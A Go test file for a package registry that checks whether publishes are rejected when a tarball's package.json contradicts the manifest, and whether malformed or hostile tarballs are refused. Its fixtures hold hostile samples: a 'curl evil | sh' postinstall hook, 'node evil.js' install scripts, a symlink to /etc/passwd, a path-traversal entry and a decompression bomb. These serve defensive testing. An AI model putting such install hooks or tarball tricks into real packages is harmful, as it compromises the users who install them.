package registry

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/bun13/bun13/impl/registry/registrytest"
)

// assertNotStored checks that name has no document, no tarball and no
// directory in storage, and answers 404.
func (e *testEnv) assertNotStored(name string) {
	e.t.Helper()
	if r := e.do("GET", "/"+escapeName(name), "", nil); r.status != http.StatusNotFound {
		e.t.Errorf("GET %s after a refused publish: %d %s", name, r.status, r.body)
	}
	if _, err := os.Stat(filepath.Join(e.dir, "packages", filepath.FromSlash(name))); !os.IsNotExist(err) {
		e.t.Errorf("storage has %s after a refused publish (stat: %v)", name, err)
	}
}

func pkgJSON(fields map[string]any) string {
	b, _ := json.Marshal(fields)
	return string(b)
}

func TestManifestConfusion(t *testing.T) {
	e := newEnv(t, 0)
	// The attack: the tarball is another package with a postinstall and
	// a dependency; the manifest shows none of it.
	evil := registrytest.TarballOf(
		registrytest.Entry{Name: "package/package.json", Body: pkgJSON(map[string]any{
			"name": "totally-different", "version": "6.6.6",
			"scripts":      map[string]string{"postinstall": "curl evil | sh"},
			"dependencies": map[string]string{"evil-dep": "1.0.0"},
		})},
		registrytest.Entry{Name: "package/index.js", Body: "x"},
	)
	r := e.do("PUT", "/confused-pkg", "tok-alice", publishDoc("confused-pkg", "1.0.0", evil))
	if r.status != http.StatusBadRequest || !strings.Contains(string(r.body), `\"name\"`) {
		t.Errorf("confused name: %d %s, want 400 naming the field", r.status, r.body)
	}
	e.assertNotStored("confused-pkg")

	base := map[string]any{"name": "confused-pkg", "version": "1.0.0"}
	with := func(k string, v any) map[string]any {
		m := map[string]any{}
		for a, b := range base {
			m[a] = b
		}
		m[k] = v
		return m
	}
	// Each checked field alone: the tarball has it, the manifest does not
	// (or says otherwise).
	for _, tc := range []struct {
		field string
		tar   map[string]any
		claim map[string]any // manifest fields set in the publish body
	}{
		{"version", with("version", "6.6.6"), nil},
		{"scripts", with("scripts", map[string]string{"postinstall": "node evil.js"}), nil},
		{"scripts", with("scripts", map[string]string{"preinstall": "node evil.js"}), map[string]any{"scripts": map[string]string{"preinstall": "node ok.js"}}},
		{"dependencies", with("dependencies", map[string]string{"evil": "1"}), nil},
		{"optionalDependencies", with("optionalDependencies", map[string]string{"evil": "1"}), nil},
		{"peerDependencies", with("peerDependencies", map[string]string{"evil": "1"}), nil},
		{"bin", with("bin", map[string]string{"ls": "evil.js"}), nil},
		{"bin", with("bin", "evil.js"), map[string]any{"bin": map[string]string{"confused-pkg": "ok.js"}}},
		{"os", with("os", []string{"linux"}), nil},
		{"cpu", with("cpu", []string{"x64"}), nil},
		{"engines", with("engines", map[string]string{"node": ">=99"}), nil},
	} {
		tgz := registrytest.TarballOf(registrytest.Entry{Name: "package/package.json", Body: pkgJSON(tc.tar)})
		r := e.do("PUT", "/confused-pkg", "tok-alice", registrytest.PublishDocFor("confused-pkg", "1.0.0", tgz, tc.claim))
		if r.status != http.StatusBadRequest || !strings.Contains(string(r.body), `\"`+tc.field+`\"`) {
			t.Errorf("%s differing: %d %s, want 400 naming %q", tc.field, r.status, r.body, tc.field)
		}
		e.assertNotStored("confused-pkg")
	}

	// Agreeing values in the forms clients write them are accepted, and
	// the stored version carries the tarball's values.
	pj := with("scripts", map[string]string{"postinstall": "node setup.js", "test": "tap"})
	pj["bin"] = "./cli.js"
	pj["dependencies"] = map[string]string{"a": "^1.0.0", "opt": "2"}
	pj["optionalDependencies"] = map[string]string{"opt": "2"}
	pj["engines"] = map[string]string{"node": ">=18"}
	pj["os"] = []string{"linux", "darwin"}
	tgz := registrytest.TarballOf(
		registrytest.Entry{Name: "package/package.json", Body: pkgJSON(pj)},
		registrytest.Entry{Name: "package/cli.js", Body: "#!/usr/bin/env node\n"},
	)
	body := registrytest.PublishDocFor("confused-pkg", "1.0.0", tgz, map[string]any{
		"scripts":              map[string]string{"postinstall": "node setup.js"},
		"bin":                  map[string]string{"confused-pkg": "cli.js"},
		"dependencies":         map[string]string{"a": "^1.0.0"},
		"optionalDependencies": map[string]string{"opt": "2"},
		"engines":              map[string]string{"node": ">=18"},
		"os":                   []string{"darwin", "linux"},
	})
	if r := e.do("PUT", "/confused-pkg", "tok-alice", body); r.status != http.StatusCreated {
		t.Fatalf("agreeing publish: %d %s", r.status, r.body)
	}
	for _, accept := range []string{"", abbreviatedType} {
		r := e.do("GET", "/confused-pkg", "", nil, "Accept", accept)
		var p struct {
			Versions map[string]map[string]json.RawMessage `json:"versions"`
		}
		if err := json.Unmarshal(r.body, &p); err != nil {
			t.Fatal(err)
		}
		v := p.Versions["1.0.0"]
		if string(v["hasInstallScript"]) != "true" {
			t.Errorf("accept %q: hasInstallScript = %s", accept, v["hasInstallScript"])
		}
		if string(v["bin"]) != `{"confused-pkg":"cli.js"}` {
			t.Errorf("accept %q: bin = %s", accept, v["bin"])
		}
		if !strings.Contains(string(v["dependencies"]), `"opt":"2"`) {
			t.Errorf("accept %q: dependencies = %s, want the tarball's", accept, v["dependencies"])
		}
		if accept == "" && !strings.Contains(string(v["scripts"]), `"test":"tap"`) {
			t.Errorf("scripts = %s, want the tarball's", v["scripts"])
		}
	}
}

func TestTarballNotGzipTar(t *testing.T) {
	e := newEnv(t, 0)
	bomb := func(n int) []byte {
		var buf bytes.Buffer
		zw, _ := gzip.NewWriterLevel(&buf, gzip.BestCompression)
		tw := tar.NewWriter(zw)
		pj := `{"name":"bad-tgz","version":"1.0.0"}`
		tw.WriteHeader(&tar.Header{Name: "package/package.json", Mode: 0o644, Size: int64(len(pj))})
		tw.Write([]byte(pj))
		tw.WriteHeader(&tar.Header{Name: "package/zeros", Mode: 0o644, Size: int64(n)})
		tw.Write(make([]byte, n))
		tw.Close()
		zw.Close()
		return buf.Bytes()
	}
	pj := `{"name":"bad-tgz","version":"1.0.0"}`
	var plain bytes.Buffer
	tw := tar.NewWriter(&plain)
	tw.WriteHeader(&tar.Header{Name: "package/package.json", Mode: 0o644, Size: int64(len(pj))})
	tw.Write([]byte(pj))
	tw.Close()
	gz := func(b []byte) []byte {
		var buf bytes.Buffer
		zw := gzip.NewWriter(&buf)
		zw.Write(b)
		zw.Close()
		return buf.Bytes()
	}
	e2 := newEnv(t, 0, func(o *Options) { o.Tarball.MaxUnpacked = 1 << 20; o.Tarball.MaxEntries = 10 })
	many := []registrytest.Entry{{Name: "package/package.json", Body: pj}}
	for i := range 20 {
		many = append(many, registrytest.Entry{Name: "package/f" + itoa(i), Body: "x"})
	}
	for _, tc := range []struct {
		what string
		env  *testEnv
		tgz  []byte
	}{
		{"text", e, []byte(strings.Repeat("this is not a tarball at all, just 124 bytes of text. ", 3)[:124])},
		{"plain tar", e, plain.Bytes()},
		{"gzip of text", e, gz([]byte("hello"))},
		{"truncated gzip", e, registrytest.TarballOf(registrytest.Entry{Name: "package/package.json", Body: pj})[:40]},
		{"no package.json", e, registrytest.TarballOf(registrytest.Entry{Name: "package/index.js", Body: "x"})},
		{"package.json a symlink", e, registrytest.TarballOf(registrytest.Entry{Name: "package/package.json", Type: tar.TypeSymlink, Link: "/etc/passwd"})},
		{"second top-level folder", e, registrytest.TarballOf(
			registrytest.Entry{Name: "package/package.json", Body: pj},
			registrytest.Entry{Name: "other/package.json", Body: `{"name":"bad-tgz","version":"1.0.0","scripts":{"postinstall":"x"}}`})},
		{"two package.json", e, registrytest.TarballOf(
			registrytest.Entry{Name: "package/package.json", Body: pj},
			registrytest.Entry{Name: "package/./package.json", Body: `{"name":"bad-tgz","version":"1.0.0","scripts":{"postinstall":"x"}}`})},
		{"dot-dot path", e, registrytest.TarballOf(
			registrytest.Entry{Name: "package/package.json", Body: pj},
			registrytest.Entry{Name: "package/../../x", Body: "x"})},
		{"decompression bomb", e2, bomb(64 << 20)},
		{"too many entries", e2, registrytest.TarballOf(many...)},
	} {
		r := tc.env.do("PUT", "/bad-tgz", "tok-alice", publishDoc("bad-tgz", "1.0.0", tc.tgz))
		if r.status != http.StatusBadRequest {
			t.Errorf("%s: %d %s, want 400", tc.what, r.status, r.body)
		}
		tc.env.assertNotStored("bad-tgz")
	}
	// npm's rule: the first top-level folder, whatever its name.
	tgz := registrytest.TarballOf(registrytest.Entry{Name: "node-v1/package.json", Body: pj})
	if r := e.do("PUT", "/bad-tgz", "tok-alice", publishDoc("bad-tgz", "1.0.0", tgz)); r.status != http.StatusCreated {
		t.Errorf("top-level folder not named package: %d %s", r.status, r.body)
	}
}

func TestBuildMetadataDuplicate(t *testing.T) {
	e := newEnv(t, 0)
	e.publish("alice", "bm-pkg", "1.0.0")
	e.publish("alice", "bm-pkg", "1.0.1+build.1")
	for _, v := range []string{"1.0.0+rebuilt", "1.0.1", "1.0.1+build.2"} {
		r := e.do("PUT", "/bm-pkg", "tok-alice", publishDoc("bm-pkg", v, tarball("bm-pkg", v)))
		if r.status != http.StatusForbidden {
			t.Errorf("publish %s: %d %s, want 403", v, r.status, r.body)
		}
		if _, err := os.Stat(filepath.Join(e.dir, "packages", "bm-pkg", "bm-pkg-"+v+".tgz")); !os.IsNotExist(err) {
			t.Errorf("tarball of %s stored", v)
		}
	}
	// Also after the version is unpublished.
	r := e.do("GET", "/bm-pkg?write=true", "tok-alice", nil)
	var p map[string]any
	json.Unmarshal(r.body, &p)
	vs := p["versions"].(map[string]any)
	delete(vs, "1.0.0")
	if r := e.do("PUT", "/bm-pkg/-rev/"+p["_rev"].(string), "tok-alice", p); r.status != http.StatusOK {
		t.Fatalf("unpublish 1.0.0: %d %s", r.status, r.body)
	}
	if r := e.do("PUT", "/bm-pkg", "tok-alice", publishDoc("bm-pkg", "1.0.0+again", tarball("bm-pkg", "1.0.0+again"))); r.status != http.StatusForbidden {
		t.Errorf("publish 1.0.0+again after unpublishing 1.0.0: %d %s", r.status, r.body)
	}
	r = e.do("GET", "/bm-pkg", "", nil)
	var after struct {
		Versions map[string]any `json:"versions"`
	}
	json.Unmarshal(r.body, &after)
	if len(after.Versions) != 1 {
		t.Errorf("versions after refused publishes: %v", after.Versions)
	}
}

// npm's normalizations are not confusion: a publish whose manifest says
// what npm derives from the tarball's package.json is accepted, and the
// implied values are served.
func TestManifestNormalizationsAccepted(t *testing.T) {
	e := newEnv(t, 0)
	for _, tc := range []struct {
		name    string
		tar     map[string]any
		files   []registrytest.Entry
		claim   map[string]any
		wantBin string
		install bool
	}{
		{name: "dirbin", tar: map[string]any{"directories": map[string]string{"bin": "./bin"}},
			files:   []registrytest.Entry{{Name: "package/bin/one.js", Body: "x"}, {Name: "package/bin/two", Body: "x"}},
			claim:   map[string]any{"bin": map[string]string{"one.js": "bin/one.js", "two": "bin/two"}},
			wantBin: `{"one.js":"bin/one.js","two":"bin/two"}`},
		{name: "gyp", files: []registrytest.Entry{{Name: "package/binding.gyp", Body: "{}"}},
			claim: map[string]any{"scripts": map[string]string{"install": "node-gyp rebuild"}}, install: true},
		{name: "ghdep", tar: map[string]any{"dependencies": map[string]string{"x": "user/repo"}},
			claim: map[string]any{"dependencies": map[string]string{"x": "github:user/repo"}}},
		{name: "vversion", tar: map[string]any{"version": "v1.0.0"}},
		{name: "binpaths", tar: map[string]any{"bin": map[string]string{"a": "./x/../cli.js"}},
			claim: map[string]any{"bin": map[string]string{"a": "cli.js"}}, wantBin: `{"a":"cli.js"}`},
	} {
		pj := map[string]any{"name": tc.name, "version": "1.0.0"}
		for k, v := range tc.tar {
			pj[k] = v
		}
		entries := append([]registrytest.Entry{{Name: "package/package.json", Body: pkgJSON(pj)}}, tc.files...)
		tgz := registrytest.TarballOf(entries...)
		r := e.do("PUT", "/"+tc.name, "tok-alice", registrytest.PublishDocFor(tc.name, "1.0.0", tgz, tc.claim))
		if r.status != http.StatusCreated {
			t.Errorf("%s: %d %s", tc.name, r.status, r.body)
			continue
		}
		var p struct {
			Versions map[string]map[string]json.RawMessage `json:"versions"`
		}
		json.Unmarshal(e.do("GET", "/"+tc.name, "", nil).body, &p)
		v := p.Versions["1.0.0"]
		if tc.wantBin != "" && string(v["bin"]) != tc.wantBin {
			t.Errorf("%s: bin %s, want %s", tc.name, v["bin"], tc.wantBin)
		}
		if tc.install != (string(v["hasInstallScript"]) == "true") {
			t.Errorf("%s: hasInstallScript %s", tc.name, v["hasInstallScript"])
		}
	}
}
